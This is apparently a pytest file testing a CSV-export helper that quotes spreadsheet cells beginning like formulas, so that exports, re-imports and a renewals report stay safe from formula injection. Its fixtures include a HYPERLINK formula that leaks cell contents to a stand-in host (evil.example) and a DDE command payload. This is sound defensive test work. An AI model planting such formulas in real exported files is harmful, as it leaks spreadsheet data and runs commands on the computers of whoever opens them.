"""Every CSV we write opens in a spreadsheet as data: a cell that would run as a formula is quoted."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from partnerdesk.lib import csv_safe
from partnerdesk.pipeline import services
from partnerdesk.pipeline.importing import parse_lead_rows

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Harbor University", "Harbor University"),
        ("a=b", "a=b"),
        ("-120.50", "-120.50"),  # a negative amount is a number to a spreadsheet, not a formula
        ("-12", "-12"),
        (42, 42),
        ("", ""),
    ],
)
def test_a_cell_that_begins_like_a_formula_gets_a_quote_and_nothing_else_changes(cell, written):
    assert csv_safe.neutralize(cell) == written


def test_restore_undoes_the_quote_and_only_that_quote():
    for cell in (FORMULA, "-2+3", "@x", "\tx", "plain", "'quoted on purpose", "-5"):
        assert csv_safe.restore(csv_safe.neutralize(cell)) == cell


def test_both_writers_quote_every_cell_the_header_included():
    out = io.StringIO()
    writer = csv_safe.writer(out, lineterminator="\n")
    writer.writerow(["=header", "ok"])
    writer.writerows([[FORMULA, -3], ["@a", "-4.5"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=header", "ok"],
        ["'" + FORMULA, "-3"],
        ["'@a", "-4.5"],
    ]
    out = io.StringIO()
    dict_writer = csv_safe.DictWriter(out, fieldnames=["a", "b"], lineterminator="\n")
    dict_writer.writeheader()
    dict_writer.writerows([{"a": "+x", "b": "y"}])
    assert out.getvalue() == "a,b\n'+x,y\n"


@pytest.mark.django_db
def test_the_export_quotes_formulas_and_imports_back_as_the_names_were(cli, alice_actor):
    services.engagement_create(
        organization_name=FORMULA, contacts=[("@Lee", "=lee@harbor.example.edu")], actor=alice_actor
    )
    services.engagement_create(
        organization_name="-Minus Lab", contacts=[("", "+kim@minus.example.org")], actor=alice_actor
    )
    result = cli("export")
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(result.out)))
    assert [row["organization"] for row in rows] == ["'" + FORMULA, "'-Minus Lab"]
    assert rows[0]["contacts"] == '"@Lee" <=lee@harbor.example.edu>'  # begins with a double quote
    assert rows[1]["contacts"] == "'+kim@minus.example.org"
    assert not any(cell.startswith(csv_safe.TRIGGERS) for row in rows for cell in row.values())

    imported = parse_lead_rows(result.out)
    assert [(row.organization, row.contacts) for row in imported] == [
        (FORMULA, [("@Lee", "=lee@harbor.example.edu")]),
        ("-Minus Lab", [("", "+kim@minus.example.org")]),
    ]


@pytest.mark.django_db
@pytest.mark.usefixtures("frozen_clock")  # the agreement ends within the report's twelve months
def test_the_report_csv_quotes_a_partner_named_like_a_formula(cli):
    from tests.partnership.conftest import make_partner

    make_partner(organization=FORMULA, term_end=dt.date(2027, 6, 30))
    result = cli("report", "renewals", "--format", "csv")
    assert result.code == 0, result.err
    [row] = list(csv.DictReader(io.StringIO(result.out)))
    assert row["organization"] == "'" + FORMULA
    assert row["agreement"].startswith("'" + FORMULA + " + 2i2c/")  # the title begins with the name
    assert row["currency"] == "USD" and row["value"] == "24000.00"
